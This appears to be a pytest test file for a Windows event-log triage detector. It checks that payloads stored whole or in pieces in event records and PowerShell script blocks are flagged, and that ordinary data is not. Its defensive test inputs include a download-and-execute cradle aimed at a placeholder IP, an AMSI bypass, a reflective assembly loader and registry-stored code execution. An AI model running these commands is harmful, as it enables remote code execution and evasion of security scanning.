"""Payloads kept in events, whole and in pieces, and data that only looks like it."""

from __future__ import annotations

import base64
import random

import pytest

from tests.content import payloads
from tests.evtx.events import POWERSHELL, classic, event, events, indicators, judged
from triage.events.reader import Raw

RNG = random.Random(1423)
PE = payloads.pe(RNG)
SHELLCODE = payloads.shellcode(RNG) + bytes(RNG.randrange(256) for _ in range(24_000))
NOISE = bytes(RNG.randrange(256) for _ in range(8192))
KMS = "Key Management Service"


def test_a_program_in_binary_data() -> None:
    raw = classic("Vendor Updater", 17, "updated", binary=PE.hex().upper())
    found = indicators(judged(raw))
    assert found["event-stored-payload"] == "critical"


@pytest.mark.parametrize("provider", ["Vendor Updater", "Microsoft-Windows-Kernel-General"])
def test_a_program_in_base64_in_any_text(provider: str) -> None:
    text = base64.b64encode(PE).decode()
    found = indicators(judged(event(provider, 7, {"Message": f"state {text}"})))
    assert found["event-stored-payload"] == "critical"


def test_a_program_where_a_provider_is_known_to_write_binary_data() -> None:
    raw = event("Microsoft-Windows-WHEA-Logger", 42, {"RawData": PE.hex().upper()})
    assert indicators(judged(raw))["event-stored-payload"] == "critical"


def test_what_a_provider_is_known_to_write() -> None:
    raw = event("Microsoft-Windows-WHEA-Logger", 42, {"RawData": NOISE.hex().upper()})
    assert events(raw) == []


def test_random_bytes_in_a_log_that_is_empty_elsewhere() -> None:
    raw = classic(KMS, 1423, binary=NOISE.hex().upper(), channel=KMS)
    assert indicators(judged(raw))["event-stored-data"] == "high"


def test_random_bytes_of_an_unknown_provider() -> None:
    raw = classic("Vendor Updater", 17, binary=NOISE.hex().upper())
    assert indicators(judged(raw))["event-stored-data"] == "medium"


def pieces(data: bytes, size: int, *, provider: str = KMS, text: bool = False) -> list[Raw]:
    """The data cut over successive records, as bytes or as base64."""
    whole = base64.b64encode(data).decode() if text else data.hex().upper()
    step = size if text else 2 * size
    parts = [whole[at : at + step] for at in range(0, len(whole), step)]
    if text:
        return [classic(provider, 1423, p, record=n, channel=KMS) for n, p in enumerate(parts, 1)]
    return [
        classic(provider, 1423, binary=p, record=n, channel=KMS) for n, p in enumerate(parts, 1)
    ]


@pytest.mark.parametrize("text", [False, True])
def test_pieces_over_records_are_put_together(text: bool) -> None:
    raws = pieces(PE, len(PE) // 4, text=text)
    assert len(raws) >= 4
    report = judged(*raws)
    assert indicators(report)["event-split-payload"] == "critical"
    names = {s.id: {f.indicator for f in s.findings} for s in report.subjects}
    subject = next(s for s in report.subjects if "event-split-payload" in names[s.id])
    assert str(dict(subject.facts)["joined_from"]).startswith("record 1, record 2")
    assert subject.content is not None


def test_eight_kilobytes_of_shellcode_in_each_record() -> None:
    others = [event("Microsoft-Windows-Other", 3, {"a": "x" * 40}, record=9 + n) for n in range(9)]
    mixed = [raw for pair in zip(pieces(SHELLCODE, 8192), others, strict=False) for raw in pair]
    assert indicators(judged(*mixed))["event-stored-payload"] == "critical"


def test_names_of_services_that_are_pieces() -> None:
    text = base64.b64encode(PE).decode().replace("+", "-").replace("/", "_").rstrip("=")
    names = [text[at : at + 200] for at in range(0, len(text), 200)]
    raws = [
        event("Service Control Manager", 7045, {"ServiceName": name, "ImagePath": "c:\\x.exe"},
              record=n)
        for n, name in enumerate(names, 1)
    ]  # fmt: skip
    found = indicators(judged(*raws))
    assert found["event-service"] == "high"
    assert found["event-split-payload"] == "critical"


def test_an_event_far_larger_than_its_kind() -> None:
    usual = [event("P", 1, {"m": "word " * 80}, record=n) for n in range(1, 40)]
    large = event("P", 1, {"m": "word " * 8000}, record=40)
    assert indicators(judged(*usual, large)) == {"event-oversized": "low"}
    assert events(*usual) == []


BENIGN = [
    classic("EventLog", 6013, "", "86400", binary="31002E00310000003000000057006900" * 20),
    event("Microsoft-Windows-Kernel-General", 1, {"NewTime": "2024-05-11T17:57:49Z", "Reason": 2}),
    event("P", 1, {"Hashes": f"SHA1={'A1' * 20},MD5={'B2' * 16},SHA256={'C3' * 32}"}),
    event("P", 1, {"Sid": "S-1-5-21-1587066498-1489273250-1035260531-1108", "L": "0x0" * 3}),
    event(
        "P",
        1,
        {"Path": "\\??\\C:\\Users\\u\\AppData\\Local\\Packages\\" + "Name.Space_8wekyb3d8\\" * 8},
    ),
    event("P", 1, {"Message": "The quick brown fox jumps over the lazy dog. " * 40}),
    event("P", 1, {"Guids": ",".join(["{19195a5a-6da0-11d0-afd3-00c04fd930c9}"] * 12)}),
    event("P", 1, {"Xml": "<a><b>text of a node</b><c attribute='value'/></a>" * 12}),
    event("P", 1, {"Address": "02000035" + "00" * 120}),
]


@pytest.mark.parametrize("raw", BENIGN, ids=range(len(BENIGN)))
def test_ordinary_data_is_not_told(raw: Raw) -> None:
    assert events(raw) == []


# --- script blocks -------------------------------------------------------------------------

LOADER = "[Reflection.Assembly]::Load([Convert]::FromBase64String('{}'))"
WHOLE = LOADER.format(base64.b64encode(PE).decode())


def blocks(text: str, size: int, *, total: int | None = None) -> list[Raw]:
    parts = [text[at : at + size] for at in range(0, len(text), size)]
    return [
        event(POWERSHELL, 4104, {"MessageNumber": n, "MessageTotal": total or len(parts),
                                 "ScriptBlockText": part, "ScriptBlockId": "b-1", "Path": ""},
              record=n, channel="Microsoft-Windows-PowerShell/Operational")
        for n, part in enumerate(parts, 1)
    ]  # fmt: skip


def test_parts_of_a_script_block_in_any_order() -> None:
    raws = blocks(WHOLE, 900)
    assert len(raws) > 2
    found = indicators(judged(*raws[1:], raws[0]))
    assert found["event-script-payload"] == "critical"
    assert found["event-script-loader"] == "high"


def test_a_block_with_a_part_missing_is_told_as_far_as_it_goes() -> None:
    raws = blocks(WHOLE, 900)
    (one,) = events(*raws[:-1])
    assert "incomplete" in one.traits
    assert one.text("missing_parts") == "1"


def test_the_same_block_twice_is_one_subject() -> None:
    raws = blocks(WHOLE, 1 << 20) * 3
    (one,) = events(*raws)
    assert one.count == 3


@pytest.mark.parametrize(
    ("script", "indicator"),
    [
        ("IEX (Get-ItemProperty HKCU:\\Software\\Vendor).Code", "event-script-store"),
        (("IEX ([wmiclass]'root\\cimv2:Win32_X').Properties['Code'].Value; [Convert]::"
         "FromBase64String($a)"), "event-script-store"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
         "event-script-hidden"),
        (("[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsi"
         "InitFailed','NonPublic,Static').SetValue($null,$true)"), "event-script-bypass"),
        (("Write-EventLog -LogName 'Key Management Service' -Source KmsRequests -EventId 31337 "
         "-Message x -RawData $bytes"), "event-script-store"),
    ],
)  # fmt: skip
def test_what_scripts_do(script: str, indicator: str) -> None:
    assert indicator in indicators(judged(*blocks(script, 1 << 20)))


@pytest.mark.parametrize(
    "script",
    [
        "Get-ChildItem C:\\ | Where-Object { $_.Length -gt 1MB } | Sort-Object Length",
        "$v = (Get-ItemProperty 'HKLM:\\SOFTWARE\\Vendor').Version; if ($v -lt 3) { exit 1 }",
        "Get-WmiObject Win32_OperatingSystem | Select-Object Caption, Version",
    ],
)
def test_ordinary_scripts_are_not_told(script: str) -> None:
    assert events(*blocks(script, 1 << 20)) == []
